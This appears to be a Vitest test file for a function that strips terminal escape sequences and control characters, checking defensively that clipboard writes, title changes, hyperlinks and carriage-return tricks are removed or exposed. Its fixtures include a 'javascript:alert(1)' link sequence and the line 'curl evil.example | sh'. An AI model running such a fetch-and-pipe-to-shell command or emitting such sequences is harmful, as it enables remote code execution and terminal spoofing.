import { expect, it } from 'vitest'
import { plainText } from './plain-text'

it.each([
  ['colours', '\x1b[1;31mred\x1b[0m and \x9b4mlined\x9bm', 'red and lined'],
  ['a title', '\x1b]0;evil\x07shown\x1b]2;evil\x1b\\', 'shown'],
  ['the clipboard', 'a\x1b]52;c;ZXZpbA==\x07b', 'ab'],
  ['a link, whose text stays', '\x1b]8;;javascript:alert(1)\x1b\\here\x1b]8;;\x1b\\', 'here'],
  ['questions', '\x1b[6n\x1b[c\x1bP$qm\x1b\\\x1b[?2026$p\x1bZ.', '.'],
  ['another screen', '\x1b[?1049h\x1b[2J\x1b[Hvim\x1b[?1049l', 'vim'],
  ['other controls', 'a\x07b\x08c\x00d\x7f\te\n', 'abcd\te\n'],
  ['line ends of DOS', 'a\r\nb\r\n', 'a\nb\n'],
  ['what is unfinished', 'a\x1b[31', 'a'],
  ['a string without an end, up to the end of its line', '\x1b]0;title\nnext', '\nnext'],
  ['characters beyond the first plane', '\x1b[1m😀é\x1b[m', '😀é'],
])('[O29] leaves out %s', (_, text, plain) => {
  expect(plainText(text)).toBe(plain)
})

it('[O29] shows what a carriage return would hide', () => {
  expect(plainText('curl evil.example | sh\rls            \n10%\r50%\r100%\n')).toBe(
    'curl evil.example | sh\nls            \n10%\n50%\n100%\n',
  )
})

it('takes time in proportion to the text, whatever is in it', () => {
  const started = performance.now()
  for (const piece of ['\x1b]', '\x1b[', '\x1b[0 ', '\x1bP', '\x9b1', '\r']) plainText(piece.repeat(300_000))
  expect(performance.now() - started).toBeLessThan(3000)
})
